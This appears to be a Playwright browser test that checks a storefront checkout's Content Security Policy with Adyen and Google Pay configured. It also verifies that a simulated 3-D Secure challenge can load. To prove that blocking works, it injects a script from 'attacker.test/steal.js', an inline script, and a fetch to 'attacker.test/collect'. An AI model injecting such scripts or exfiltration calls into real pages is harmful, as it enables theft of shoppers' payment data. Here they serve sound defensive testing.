import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { DESKTOP, SCREENSHOTS, addToBasket, expectNoAxeViolations, newWatchedPage, useBrowserHarness } from './support/browser-harness.js';
import { demoCatalog } from './support/demo-catalog.js';
import { paymentResponse, routePayments } from './support/payment-routes.js';
import { answerProviderHosts } from './support/provider-hosts.js';

/** Adyen test credentials: the server sends the CSP for Adyen's test environment. Its API is never reached here. */
const harness = useBrowserHarness({
  env: {
    ADYEN_API_KEY: 'AQE-key', ADYEN_CLIENT_KEY: 'test_CSPCHECK0000000000000000000000', ADYEN_MERCHANT_ACCOUNT: 'StorefrontECOM',
    ADYEN_HMAC_KEY: 'ab'.repeat(32), ADYEN_ENVIRONMENT: 'test', ADYEN_CHECKOUT_URL: 'http://127.0.0.1:9/checkout',
    // adyen-web's GooglePay component refuses to start without Google's merchant id.
    GOOGLE_PAY_MERCHANT_ID: 'BCR2DN4TCSPCHECK',
  },
});

const dress = demoCatalog.products.find((p) => p.brand === 'evans' && p.kind === 'apparel' && p.sizes.some((s) => s.unitsInStock >= 2))!;
const size = dress.sizes.find((s) => s.unitsInStock >= 2)!;

/** What Chromium refused under the page's CSP, as `directive blocked-uri`. */
const refusals = (page: Page): Promise<string[]> => page.evaluate(() => (window as unknown as { cspRefusals: string[] }).cspRefusals);

describe('the CSP with Adyen configured, in Chromium', () => {
  test("adyen-web's card fields and Google's pay.js load unrefused, 3-D Secure may frame and post to an issuer; other hosts and inline script stay refused", async () => {
    const context = await harness.browser.newContext({ viewport: DESKTOP });
    await addToBasket(harness, context, { site: 'evans', productId: dress.id, stockId: size.stockId });
    const { page, problems } = await newWatchedPage(context);
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { cspRefusals: string[] }).cspRefusals = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
    });
    await routePayments(page, { initiate: () => ({ body: paymentResponse('Received') }) });
    const external = await answerProviderHosts(page, 'not-found');
    expect((await page.goto(`${harness.baseUrl}/basket?site=evans`))?.status()).toBe(200);
    await page.waitForSelector('[data-island="QuickBasket"][data-island-waiting]');
    await page.locator('[data-payment-area]').scrollIntoViewIfNeeded();
    await page.locator('fieldset.payment-methods').waitFor();

    await page.getByLabel('Cards').check();
    await expect.poll(() => external.some((url) => url.startsWith('https://checkoutshopper-test.adyen.com/checkoutshopper/securedfields/')), { timeout: 20_000 }).toBe(true);
    await page.getByLabel('Google Pay', { exact: true }).check();
    await expect.poll(() => external.includes('https://pay.google.com/gp/p/js/pay.js'), { timeout: 20_000 }).toBe(true);

    await page.evaluate(() => {
      // A 3-D Secure challenge as adyen-web makes it: a frame named for it, and a form posted into it.
      const frame = Object.assign(document.createElement('iframe'), { name: 'threeDSIframe', title: 'Challenge' });
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), { method: 'POST', action: 'https://acs.issuer.test/challenge', target: 'threeDSIframe' });
      document.body.append(form);
      form.submit();
      // What the policy must still refuse.
      document.head.append(Object.assign(document.createElement('script'), { src: 'https://attacker.test/steal.js' }));
      document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.inlineRan = true' }));
      void fetch('https://attacker.test/collect').catch(() => undefined);
    });
    await expect.poll(() => external.includes('https://acs.issuer.test/challenge')).toBe(true);
    await expect.poll(() => refusals(page)).toHaveLength(3);
    expect((await refusals(page)).sort()).toEqual(['connect-src https://attacker.test/collect', 'script-src-elem https://attacker.test/steal.js', 'script-src-elem inline'].sort());
    expect(external.filter((url) => url.includes('attacker.test'))).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { inlineRan?: boolean }).inlineRan)).toBeUndefined();

    // Offline, neither can finish loading: each says so, and the area stays usable.
    await page.locator('#googlepay-container .payment-form__problem').waitFor({ timeout: 30_000 });
    await page.getByLabel('Cards').check();
    await page.locator('#card-container .payment-form__problem').waitFor({ timeout: 30_000 });
    await expectNoAxeViolations(page, '[data-payment-area]');
    await page.locator('[data-payment-area]').screenshot({ path: `${SCREENSHOTS}/payment-area-adyen-csp.png` });
    expect(problems.filter((p) => !/Content Security Policy|adyen|AdyenCheckoutError|originKeyError|not available|NETWORK_ERROR|Failed to fetch|google/i.test(p))).toEqual([]);
    await page.close();
  });
});
